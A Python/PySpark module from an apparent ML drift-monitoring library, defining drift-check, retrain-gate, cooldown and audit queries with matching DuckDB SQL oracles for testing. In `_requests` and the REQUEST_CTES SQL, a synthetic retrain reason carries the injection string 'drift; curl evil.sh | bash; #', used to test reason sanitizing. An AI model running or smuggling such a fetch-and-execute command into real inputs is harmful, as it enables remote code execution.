"""Queries on the history of checks and on the decisions taken from it.

The history holds one check per event type and day of the drifting events. It is measured once
per application and folder and appended to a table, which all but `drift_check_history` read.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F
from pyspark.sql import types as T

from driftline.catalog import sql as q
from driftline.catalog.drift import DRIFT_REF
from driftline.config import DriftConfig
from driftline.functions.scalars import clean_reason, out
from driftline.operators import decisions as g
from driftline.operators import history as h
from driftline.plans import datasets as ds
from driftline.plans.checks import ModelSpec, history
from driftline.session import scratch_path
from driftline.sources import sinks
from driftline.sources.tables import moment, read_table

SPEC = ModelSpec(tuple(ds.EVENT_FEATURES), "ts", "event_id", ds.DECISION_THRESHOLD)
CONFIG = DriftConfig(min_samples=30)
NOW = datetime(2024, 2, 1)
COOLDOWN_MINUTES = 36 * 60
REQUEST_CONFIG = replace(CONFIG, retrain_min_interval_minutes=COOLDOWN_MINUTES)


_stored: dict[tuple[str, str], str] = {}


def checks(spark: SparkSession, folder: str) -> DataFrame:
    """The stored table of checks; the first reader in an application fills it from the log."""
    key = (spark.sparkContext.applicationId, folder)
    if key not in _stored:
        path = scratch_path(spark, "drift_checks")
        sinks.append_rows(measured_checks(spark, folder), path)
        _stored[key] = path
    return spark.read.parquet(_stored[key])


def measured_checks(spark: SparkSession, folder: str) -> DataFrame:
    log = ds.drifting_events(spark, folder)
    ref, _ = ds.split(log, "ts", ds.EVENT_SPLIT)
    dated = log.withColumn("day", F.to_date("ts"))
    return history(ref, dated, SPEC, "event_type", "day", CONFIG)


MEASURES = ["psi_max", "psi_mean", "prediction_drift_psi", "perf_f1", "perf_drop", "baseline_f1"]


def drift_check_history(spark: SparkSession, folder: str) -> DataFrame:
    """Checks written to the append table and read back."""
    path = scratch_path(spark, "drift_checks")
    sinks.append_rows(sinks.drift_check_rows(measured_checks(spark, folder), ["event_type", "day"]), path)
    stored = spark.read.parquet(path)
    return stored.select(
        "id", "ts", "status", *[out(F.col(c)).alias(c) for c in ("psi_max", "psi_mean", "perf_f1", "perf_drop")],
        "window_start", "window_end",
        F.get_json_object("report", "$.event_type").alias("model"),
        F.get_json_object("report", "$.n_samples").cast("bigint").alias("n_samples"),
    )


def recent_checks(spark: SparkSession, folder: str) -> DataFrame:
    newest = h.recent(checks(spark, folder), limit=20)
    return h.with_trend(newest, "ts", ["id"]).select(
        "id", "ts", "status", *[out(F.col(c)).alias(c) for c in ("psi_max", "psi_mean", "perf_f1", "perf_drop", "psi_change")]
    )


def psi_trend(spark: SparkSession, folder: str) -> DataFrame:
    return h.psi_trend(checks(spark, folder)).select("position", "id", out(F.col("height"), 4).alias("height"))


def check_status_counts(spark: SparkSession, folder: str) -> DataFrame:
    return h.status_counts(checks(spark, folder))


def latest_gauges(spark: SparkSession, folder: str) -> DataFrame:
    """The last check of a model may be guarded; its measures then count as missing."""
    unmeasured = F.col("status").isin("no_data", "insufficient_data")
    rows = checks(spark, folder).withColumns(
        {c: F.when(~unmeasured, F.col(c)) for c in ("psi_max", "perf_f1", "perf_drop")}
    )
    return h.latest_gauges(rows, ["event_type"]).select(
        "event_type", *[out(F.col(c)).alias(c) for c in ("last_psi_max", "last_f1", "last_f1_drop")]
    )


def duration_histogram(spark: SparkSession, folder: str) -> DataFrame:
    """Event values read as durations in tens of seconds."""
    events = read_table(spark, folder, "events").select((F.col("value") / F.lit(10.0)).alias("seconds"))
    found = h.duration_histogram(events, "seconds")
    return found.select("le", "n", out(F.col("total_seconds"), 3).alias("total_seconds"))


def classify_status(spark: SparkSession, folder: str) -> DataFrame:
    rows = checks(spark, folder)
    plain = g.status(F.col("psi_max"), F.col("perf_drop"), F.col("prediction_drift_psi"), CONFIG)
    return rows.select("id", plain.alias("status"))


def sample_guard(spark: SparkSession, folder: str) -> DataFrame:
    """Guard per model and hour of the whole log, hours without rows included."""
    log = read_table(spark, folder, "events")
    bounds = log.agg(F.min("ts").alias("lo"), F.max("ts").alias("hi"))
    hours = bounds.select(
        F.explode(
            F.sequence(F.date_trunc("hour", "lo"), F.date_trunc("hour", "hi"), F.expr("INTERVAL 1 HOUR"))
        ).alias("hour")
    ).select("hour", F.lit(0).cast("bigint").alias("n"))
    seen = log.groupBy(F.date_trunc("hour", "ts").alias("hour")).agg(F.count(F.lit(1)).alias("n"))
    counts = hours.unionByName(seen).groupBy("hour").agg(F.sum("n").alias("n_samples"))
    return counts.select(
        F.col("hour").cast("timestamp_ntz").alias("hour"), "n_samples",
        g.guarded_status(F.col("n_samples"), F.lit("checked"), 14).alias("status"),
    )


def _requests(spark: SparkSession, folder: str) -> DataFrame:
    """Every check asks for a retrain; text, switch and dry run follow from the row by rule."""
    rows = checks(spark, folder).filter("status NOT IN ('no_data', 'insufficient_data')")
    return rows.withColumn(
        "asked",
        F.when(F.dayofweek("ts") == 1, F.lit("drift; curl evil.sh | bash; #"))
        .when(F.dayofweek("ts") == 2, F.lit(""))
        .otherwise(F.format_string("psi above %s (model %s)", F.lit("0.25"), F.col("event_type"))),
    ).withColumn("enabled", F.col("event_type") != "signup")


def decided(spark: SparkSession, folder: str) -> DataFrame:
    """Every request with its message and decision; clicks run dry, errors have no target."""
    return g.decide_requests(
        _requests(spark, folder), "event_type", "ts", REQUEST_CONFIG, F.col("enabled"),
        F.col("event_type") == "click", F.col("event_type") != "error",
    )


def retrain_gate(spark: SparkSession, folder: str) -> DataFrame:
    """The gate of each check, its rate limit taken from the dispatches before it."""
    return decided(spark, folder).select("id", (F.col("message") == g.PASS_TEXT).alias("allowed"), "message")


def gate_confusion(spark: SparkSession, folder: str) -> DataFrame:
    """The gate against the drift that was put into the events: from intensity 0.5 on a retrain
    is expected."""
    strong = F.dayofmonth("ts") >= 25
    rows = decided(spark, folder).withColumns({"allowed": F.col("message") == g.PASS_TEXT, "expected": strong})
    found = g.gate_confusion(rows, "allowed", "expected")
    return found.select("n", "tp", "tn", "fp", "fn", *[out(F.col(c)).alias(c) for c in ("accuracy", "false_trigger_rate", "missed_trigger_rate")])


def retrain_cooldown(spark: SparkSession, folder: str) -> DataFrame:
    """Purchases of at least 20 as requests per user, 36 hours apart at least."""
    ev = read_table(spark, folder, "events").filter("event_type = 'purchase' AND value >= 20")
    asked = ev.withColumn("model", F.col("user_id"))
    return g.retrain_cooldown(asked, ["model"], "ts", COOLDOWN_MINUTES).select("event_id", "model", "dispatched")


def audits(spark: SparkSession, folder: str) -> DataFrame:
    """Audit rows of every request."""
    rows = decided(spark, folder)
    return g.audit_rows(rows, "ts", F.col("asked"), F.col("message"), F.col("decision"))


def retrain_audit_log(spark: SparkSession, folder: str) -> DataFrame:
    path = scratch_path(spark, "audits")
    columns = ["id", "ts", "event_type", "decision", "reason", "psi_max", "perf_drop", "detail"]
    sinks.append_rows(audits(spark, folder).select(*columns), path)
    return spark.read.parquet(path).select(
        "id", "ts", "decision", "reason", out(F.col("psi_max")).alias("psi_max"),
        out(F.col("perf_drop")).alias("perf_drop"), "detail",
    )


def seconds_since_dispatch(spark: SparkSession, folder: str) -> DataFrame:
    found = h.seconds_since_dispatch(audits(spark, folder), moment(NOW, T.TimestampNTZType()), ["event_type"])
    return found.select("event_type", "last_dispatch", out(F.col("seconds_since"), 3).alias("seconds_since"))


def sanitize_reason(spark: SparkSession, folder: str) -> DataFrame:
    """Document texts as reasons: most hold characters that are not allowed."""
    docs = read_table(spark, folder, "documents")
    return docs.select("doc_id", F.md5(clean_reason(F.col("text"))).alias("reason_md5"))


def alert_feed(spark: SparkSession, folder: str) -> DataFrame:
    return g.alert_feed(checks(spark, folder)).select("id", "status", "text")


def run_metrics_map(spark: SparkSession, folder: str) -> DataFrame:
    """Run records of all checks, flattened to one row per metric that is present."""
    rows = checks(spark, folder).withColumn(
        "perf_f1", F.when(F.col("status") != "insufficient_data", F.col("perf_f1"))
    )
    runs = sinks.run_rows(rows, F.col("id"), ["psi_max", "psi_mean", "perf_f1", "perf_drop"], ["status", "day"])
    return runs.select(
        "run_id", F.explode("metrics").alias("metric", "value"), F.element_at("tags", "status").alias("status")
    ).withColumn("value", out(F.col("value")))


def checks_with_verdicts(spark: SparkSession, folder: str) -> DataFrame:
    """Alerts get a verdict; all other checks stay without one."""
    rows = checks(spark, folder)
    verdicts = sinks.verdict_rows(
        rows.filter("status = 'alert'").select(
            F.col("id").alias("drift_check_id"),
            F.concat(F.lit("drift in "), F.col("event_type")).alias("diagnosis"),
            F.array(
                F.struct(F.lit("retrain").alias("action"), F.lit("high").alias("priority"), F.lit("psi").alias("reason"))
            ).alias("recommendations"),
            (F.col("perf_drop") >= 0.05).alias("triggered_retraining"),
        )
    )
    return h.checks_with_verdicts(rows, verdicts).select(
        "id", "status", "diagnosis", F.get("recommendations", F.lit(0))["action"].alias("action"), "triggered_retraining"
    )


def champion_resolution(spark: SparkSession, folder: str) -> DataFrame:
    """Parts as registered versions of their brand, and the larger ones as moves of the champion alias in
    order of price: so an alias also moves back to older versions, and some moves take it away."""
    parts = read_table(spark, folder, "part")
    model, version = F.col("p_brand").alias("model"), F.col("p_partkey").cast("string")
    registry = parts.select(model, version.alias("version"), F.lit(None).cast("string").alias("alias"))
    moves = parts.where((F.col("p_size") >= 40) & (F.col("p_brand") < "Brand#40")).select(
        model, F.lit("champion").alias("alias"), F.when(F.col("p_size") != 45, version).alias("version"),
        F.struct("p_retailprice", "p_partkey").alias("seq"),
    )
    return h.resolve_champions(registry, moves).select("model", "uri")


def dispatch_outbox(spark: SparkSession, folder: str) -> DataFrame:
    """Orders as requests that were let through, their lines as attempts to dispatch them: discounts of 7 %
    and more were accepted, some attempts got no answer, some requests have no attempt yet."""
    orders, lines = read_table(spark, folder, "orders"), read_table(spark, folder, "lineitem")
    decision = F.when(F.col("o_orderpriority") == "1-URGENT", "dry_run").otherwise("dispatched")
    audits = orders.select(F.col("o_orderkey").alias("id"), decision.alias("decision"), F.lit("204").alias("detail"))
    status = F.when(F.col("l_discount") >= 0.07, 204).when(F.col("l_tax") < 0.04, 500 + F.col("l_linenumber"))
    results = lines.where(F.col("l_quantity") > 20).select(
        F.col("l_orderkey").alias("id"), F.struct("l_linenumber", "l_partkey", "l_suppkey", "l_tax").alias("attempt"), status.alias("status")
    )
    settled = g.settle_outbox(audits, results)
    return settled.groupBy("decision", "detail").agg(F.count(F.lit(1)).alias("n"), F.sum("id").alias("ids"))


def threshold_violations(spark: SparkSession, folder: str) -> DataFrame:
    """Parts as models whose thresholds follow from size and price."""
    parts = read_table(spark, folder, "part")
    table = parts.select(
        F.col("p_partkey").alias("model"),
        (F.col("p_size") / F.lit(100.0)).alias("psi_warn"),
        F.lit(0.25).alias("psi_alert"),
        F.lit(0.1).alias("pred_warn"),
        (F.col("p_retailprice") / F.lit(9000.0)).alias("pred_alert"),
        ((F.col("p_size") - 3) / F.lit(40.0)).alias("perf_drop_alert"),
        (F.col("p_size") - 2).alias("min_samples"),
        (F.col("p_partkey") - 5).alias("label_delay_days"),
    )
    return g.threshold_violations(table).select("model", F.array_join("violations", ",").alias("violations"))


QUERIES = {
    "drift_check_history": drift_check_history,
    "recent_checks": recent_checks,
    "psi_trend": psi_trend,
    "check_status_counts": check_status_counts,
    "latest_gauges": latest_gauges,
    "duration_histogram": duration_histogram,
    "classify_status": classify_status,
    "sample_guard": sample_guard,
    "retrain_gate": retrain_gate,
    "gate_confusion": gate_confusion,
    "retrain_cooldown": retrain_cooldown,
    "retrain_audit_log": retrain_audit_log,
    "seconds_since_dispatch": seconds_since_dispatch,
    "sanitize_reason": sanitize_reason,
    "alert_feed": alert_feed,
    "run_metrics_map": run_metrics_map,
    "checks_with_verdicts": checks_with_verdicts,
    "champion_resolution": champion_resolution,
    "dispatch_outbox": dispatch_outbox,
    "threshold_violations": threshold_violations,
}

DATED = f"SELECT *, CAST(ts AS DATE) AS day FROM ({ds.DRIFTING_SQL})"
_KEYS, _WIN = ["event_type"], ["day"]
HISTORY_CTES = f"""{q.psi_ctes(DRIFT_REF, DATED, ['value', 'k', 'score'], _KEYS, _WIN, numeric=['score'])},
  base AS ({q.confusion_sql(DRIFT_REF, str(ds.DECISION_THRESHOLD), _KEYS)}),
  perf AS ({q.confusion_sql(DATED, str(ds.DECISION_THRESHOLD), ['event_type', 'day'])}),
  span AS (SELECT event_type, day, min(ts) AS window_start, max(ts) AS window_end FROM ({DATED}) GROUP BY ALL),
  drift AS (
    SELECT event_type, day, max(psi) FILTER (WHERE feature <> 'score') AS psi_max,
           avg(psi) FILTER (WHERE feature <> 'score') AS psi_mean,
           max(psi) FILTER (WHERE feature = 'score') AS prediction_drift_psi,
           coalesce(string_agg(feature, ', ' ORDER BY feature) FILTER (WHERE feature <> 'score' AND psi >= 0.25), '') AS drifted
    FROM psi GROUP BY ALL),
  raw_checks AS (
    SELECT event_type, day, event_type || '|' || CAST(day AS VARCHAR) AS id, window_end AS ts, window_start, window_end,
           psi_max, psi_mean, prediction_drift_psi, drifted, perf.n_samples, perf.n_labeled, base.f1 AS baseline_f1, perf.f1 AS perf_f1,
           greatest(base.f1 - perf.f1, 0.0::DOUBLE) AS perf_drop
    FROM drift JOIN perf USING (event_type, day) JOIN base USING (event_type) JOIN span USING (event_type, day)),
  plain AS (
    SELECT *, CASE WHEN psi_max >= 0.25 OR perf_drop >= 0.05 OR prediction_drift_psi >= 0.25 THEN 'alert'
                   WHEN psi_max >= 0.10 OR prediction_drift_psi >= 0.10 THEN 'warn' ELSE 'ok' END AS plain_status
    FROM raw_checks),
  checks AS (
    SELECT * REPLACE (CASE WHEN g THEN 0.0::DOUBLE ELSE psi_max END AS psi_max, CASE WHEN g THEN 0.0::DOUBLE ELSE psi_mean END AS psi_mean,
                      CASE WHEN NOT g THEN prediction_drift_psi END AS prediction_drift_psi, CASE WHEN NOT g THEN perf_f1 END AS perf_f1,
                      CASE WHEN NOT g THEN perf_drop END AS perf_drop, CASE WHEN g THEN '' ELSE drifted END AS drifted,
                      CASE WHEN g THEN 0 ELSE n_labeled END AS n_labeled, CASE WHEN g THEN 'ok' ELSE plain_status END AS plain_status),
           CASE WHEN g THEN 'insufficient_data' ELSE plain_status END AS status
    FROM (SELECT *, n_samples < 30 AS g FROM plain))"""
REQUEST_CTES = f"""{HISTORY_CTES},
  asked AS (
    SELECT *, event_type <> 'signup' AS enabled,
           CASE dayofweek(ts) WHEN 0 THEN 'drift; curl evil.sh | bash; #' WHEN 1 THEN ''
                ELSE 'psi above 0.25 (model ' || event_type || ')' END AS asked_reason
    FROM checks WHERE status <> 'insufficient_data')"""


def gate_sql(limited: str) -> str:
    return f"""CASE WHEN NOT enabled THEN 'BLOCKED: retraining disabled (retrain_enabled is off).'
      WHEN psi_max < 0.25 THEN printf('BLOCKED: psi_max=%.4f < 0.25 — data-drift condition not met.', psi_max)
      WHEN perf_drop < 0.05 THEN printf('BLOCKED: f1_drop=%.4f < 0.05 — performance-degradation condition not met.', perf_drop)
      {limited} ELSE 'OK' END"""


def cooldown_sql(name: str, source: str, key: str, minutes: int) -> str:
    """Greedy dispatches of each key by walking from one to the next."""
    return f"""
  {name}(k, sent_at) AS (
    SELECT {key}, min(ts) FROM {source} GROUP BY {key}
    UNION ALL
    SELECT k, nxt FROM (
      SELECT d.k, (SELECT min(s.ts) FROM {source} s WHERE s.{key} = d.k AND s.ts >= d.sent_at + INTERVAL {minutes} MINUTE) AS nxt
      FROM {name} d) WHERE nxt IS NOT NULL)"""


AUDIT_CTES = f"""{REQUEST_CTES},
  gated AS (SELECT *, {gate_sql('')} AS message FROM asked),
  counting AS (SELECT * FROM gated WHERE message = 'OK' AND event_type <> 'error'),
  {cooldown_sql('sent', 'counting', 'event_type', COOLDOWN_MINUTES)},
  timed AS (
    SELECT *, (SELECT date_diff('microsecond', max(s.sent_at), g.ts) / 1000000.0::DOUBLE FROM sent s
               WHERE s.k = g.event_type AND s.sent_at < g.ts) AS since FROM gated g),
  limited AS (
    SELECT * REPLACE (CASE WHEN message = 'OK' AND since < {COOLDOWN_MINUTES} * 60
      THEN printf('BLOCKED: last retrain was %.1fm ago (< {COOLDOWN_MINUTES}m rate limit).', since / 60.0::DOUBLE) ELSE message END AS message)
    FROM timed),
  decided AS (
    SELECT *, CASE WHEN message <> 'OK' THEN 'blocked' WHEN event_type = 'click' THEN 'dry_run'
                   WHEN event_type = 'error' THEN 'skipped' ELSE 'dispatched' END AS decision
    FROM limited)"""

REASON_SQL = r"CASE WHEN regexp_full_match({c}, '[\p{{L}}\p{{N}}_\s\x0b\x1c-\x1f\x{{85}}\p{{Z}}.,:;()\-/%>=<]+') THEN {c} ELSE 'drift thresholds breached' END"

ORACLES = {
    "drift_check_history": f"""WITH {HISTORY_CTES}
      SELECT id, ts, status, {q.rounded('psi_max', 'psi_mean', 'perf_f1', 'perf_drop')}, window_start, window_end,
             event_type AS model, n_samples FROM checks""",
    "recent_checks": f"""WITH {HISTORY_CTES}
      SELECT id, ts, status, {q.rounded('psi_max', 'psi_mean', 'perf_f1', 'perf_drop', 'psi_change')}
      FROM (SELECT *, psi_max - lag(psi_max) OVER (ORDER BY ts, id) AS psi_change
            FROM (SELECT * FROM checks ORDER BY ts DESC, id DESC LIMIT 20))""",
    "psi_trend": f"""WITH {HISTORY_CTES}
      SELECT CAST(row_number() OVER (ORDER BY ts, id) AS INTEGER) AS position, id,
             round(greatest(2.0::DOUBLE, 36.0::DOUBLE * psi_max / greatest(max(psi_max) OVER (), 0.001::DOUBLE)), 4) + 0.0::DOUBLE AS height
      FROM (SELECT * FROM checks ORDER BY ts DESC, id DESC LIMIT 15)""",
    "check_status_counts": f"WITH {HISTORY_CTES} SELECT status, count(*) AS n FROM checks GROUP BY status",
    "latest_gauges": f"""WITH {HISTORY_CTES}, m AS (
        SELECT *, status <> 'insufficient_data' AS ok FROM checks)
      SELECT event_type,
        round(arg_max(CASE WHEN ok THEN psi_max ELSE 0.0::DOUBLE END, ts), 6) + 0.0::DOUBLE AS last_psi_max,
        round(arg_max(perf_f1, ts) FILTER (WHERE ok), 6) + 0.0::DOUBLE AS last_f1,
        round(arg_max(perf_drop, ts) FILTER (WHERE ok), 6) + 0.0::DOUBLE AS last_f1_drop
      FROM m GROUP BY event_type""",
    "duration_histogram": " UNION ALL ".join(
        f"""SELECT {b}::DOUBLE AS le, count(*) FILTER (WHERE value / 10.0::DOUBLE <= {b}::DOUBLE) AS n,
            round(sum(value / 10.0::DOUBLE), 3) + 0.0::DOUBLE AS total_seconds FROM events"""
        for b in [*h.DURATION_BUCKETS, "'inf'"]
    ),
    "classify_status": f"WITH {HISTORY_CTES} SELECT id, plain_status AS status FROM checks",
    "sample_guard": """SELECT hour, coalesce(n, 0) AS n_samples,
        CASE WHEN coalesce(n, 0) = 0 THEN 'no_data' WHEN n < 14 THEN 'insufficient_data' ELSE 'checked' END AS status
      FROM (SELECT unnest(generate_series((SELECT date_trunc('hour', min(ts)) FROM events),
                                          (SELECT date_trunc('hour', max(ts)) FROM events), INTERVAL 1 HOUR)) AS hour)
      LEFT JOIN (SELECT date_trunc('hour', ts) AS hour, count(*) AS n FROM events GROUP BY 1) USING (hour)""",
    "retrain_gate": f"WITH RECURSIVE {AUDIT_CTES} SELECT id, message = 'OK' AS allowed, message FROM decided",
    "gate_confusion": f"""WITH RECURSIVE {AUDIT_CTES}, r AS (SELECT message = 'OK' AS a, day(ts) >= 25 AS e FROM decided),
      c AS (SELECT count(*) AS n, count(*) FILTER (WHERE a AND e) AS tp, count(*) FILTER (WHERE NOT a AND NOT e) AS tn,
                   count(*) FILTER (WHERE a AND NOT e) AS fp, count(*) FILTER (WHERE NOT a AND e) AS fn FROM r)
      SELECT n, tp, tn, fp, fn, round((tp + tn) / nullif(n, 0)::DOUBLE, 6) + 0.0::DOUBLE AS accuracy,
             round(fp / nullif(n, 0)::DOUBLE, 6) + 0.0::DOUBLE AS false_trigger_rate,
             round(fn / nullif(n, 0)::DOUBLE, 6) + 0.0::DOUBLE AS missed_trigger_rate FROM c""",
    "retrain_cooldown": f"""WITH RECURSIVE asked AS (
        SELECT event_id, ts, user_id AS model FROM events WHERE event_type = 'purchase' AND value >= 20),
      {cooldown_sql('sent', 'asked', 'model', COOLDOWN_MINUTES)}
      SELECT event_id, model, sent_at IS NOT NULL AS dispatched
      FROM asked LEFT JOIN sent ON model = k AND ts = sent_at""",
    "retrain_audit_log": f"""WITH RECURSIVE {AUDIT_CTES}
      SELECT id, ts, decision, {REASON_SQL.format(c='asked_reason')} AS reason, {q.rounded('psi_max', 'perf_drop')},
             CASE decision WHEN 'blocked' THEN message WHEN 'dry_run' THEN 'dry-run; not dispatched'
                           WHEN 'skipped' THEN 'no target configured' ELSE '204' END AS detail
      FROM decided""",
    "seconds_since_dispatch": f"""WITH RECURSIVE {AUDIT_CTES},
      l AS (SELECT event_type, max(ts) FILTER (WHERE decision IN ('dispatched', 'dry_run')) AS last_dispatch FROM decided GROUP BY event_type)
      SELECT event_type, last_dispatch,
             round(date_diff('microsecond', last_dispatch, TIMESTAMP '2024-02-01') / 1000000.0::DOUBLE, 3) + 0.0::DOUBLE AS seconds_since FROM l""",
    "sanitize_reason": f"""SELECT doc_id, md5(substr({REASON_SQL.format(c='text')}, 1, 200)) AS reason_md5 FROM documents""",
    "alert_feed": f"""WITH {HISTORY_CTES}
      SELECT id, status, printf(':warning: Model monitor — *%s*' || chr(10) || '• psi_max: %.3f  • F1 drop: %.3f  • pred-PSI: %.3f'
               || chr(10) || '• drifted features: %s' || chr(10) || '• samples: %d (labeled %d)',
             upper(status), psi_max, perf_drop, prediction_drift_psi, CASE WHEN drifted = '' THEN 'none' ELSE drifted END, n_samples, n_labeled) AS text
      FROM checks WHERE status IN ('warn', 'alert')""",
    "run_metrics_map": f"""WITH {HISTORY_CTES}, m AS (
        SELECT id AS run_id, status, 'psi_max' AS metric, psi_max AS value FROM checks
        UNION ALL SELECT id, status, 'psi_mean', psi_mean FROM checks
        UNION ALL SELECT id, status, 'perf_f1', perf_f1 FROM checks WHERE status <> 'insufficient_data'
        UNION ALL SELECT id, status, 'perf_drop', perf_drop FROM checks WHERE status <> 'insufficient_data')
      SELECT run_id, metric, {q.rounded('value')}, status FROM m""",
    "checks_with_verdicts": f"""WITH {HISTORY_CTES}
      SELECT id, status, CASE WHEN status = 'alert' THEN 'drift in ' || event_type END AS diagnosis,
             CASE WHEN status = 'alert' THEN 'retrain' END AS action,
             CASE WHEN status = 'alert' THEN CAST(perf_drop >= 0.05 AS INTEGER) END AS triggered_retraining FROM checks""",
    "champion_resolution": """WITH moves AS (
        SELECT p_brand, CASE WHEN p_size <> 45 THEN p_partkey END AS v,
               row_number() OVER (PARTITION BY p_brand ORDER BY p_retailprice DESC, p_partkey DESC) AS place
        FROM part WHERE p_size >= 40 AND p_brand < 'Brand#40')
      SELECT b.p_brand AS model, CASE WHEN v IS NOT NULL THEN 'models:/' || b.p_brand || '@champion (v' || v || ')'
          ELSE 'models:/' || b.p_brand || '/' || l END AS uri
      FROM (SELECT p_brand, max(p_partkey) AS l FROM part GROUP BY p_brand) b LEFT JOIN moves m ON m.p_brand = b.p_brand AND place = 1""",
    "dispatch_outbox": """WITH attempts AS (
        SELECT l_orderkey AS id, (l_linenumber, l_partkey, l_suppkey, l_tax) AS attempt,
               CASE WHEN l_discount >= 0.07 THEN 204 WHEN l_tax < 0.04 THEN 500 + l_linenumber END AS status FROM lineitem WHERE l_quantity > 20),
      newest AS (SELECT * FROM attempts QUALIFY row_number() OVER (PARTITION BY id ORDER BY attempt DESC) = 1),
      settled AS (
        SELECT o_orderkey AS id,
          CASE WHEN o_orderpriority = '1-URGENT' THEN 'dry_run' WHEN o_orderkey NOT IN (SELECT id FROM attempts) THEN 'pending'
               WHEN o_orderkey IN (SELECT id FROM attempts WHERE status = 204) THEN 'dispatched' ELSE 'blocked' END AS decision, n.status
        FROM orders LEFT JOIN newest n ON n.id = o_orderkey)
      SELECT decision, CASE decision WHEN 'pending' THEN NULL WHEN 'blocked' THEN coalesce('status ' || status, 'dispatch error') ELSE '204' END AS detail,
        count(*) AS n, CAST(sum(id) AS BIGINT) AS ids FROM settled GROUP BY ALL""",
    "threshold_violations": """SELECT model, concat_ws(',', CASE WHEN NOT (w > 0 AND w < 0.25) THEN 'psi_band' END,
          CASE WHEN NOT (pa > 0.1) THEN 'pred_band' END, CASE WHEN NOT (d > 0 AND d < 1) THEN 'perf_drop' END,
          CASE WHEN NOT (n >= 1) THEN 'min_samples' END, CASE WHEN NOT (l >= 0) THEN 'label_delay' END) AS violations
      FROM (SELECT p_partkey AS model, p_size / 100.0::DOUBLE AS w, p_retailprice / 9000.0::DOUBLE AS pa,
                   (p_size - 3) / 40.0::DOUBLE AS d, p_size - 2 AS n, p_partkey - 5 AS l FROM part)
      WHERE NOT (w > 0 AND w < 0.25 AND pa > 0.1 AND d > 0 AND d < 1 AND n >= 1 AND l >= 0)""",
}
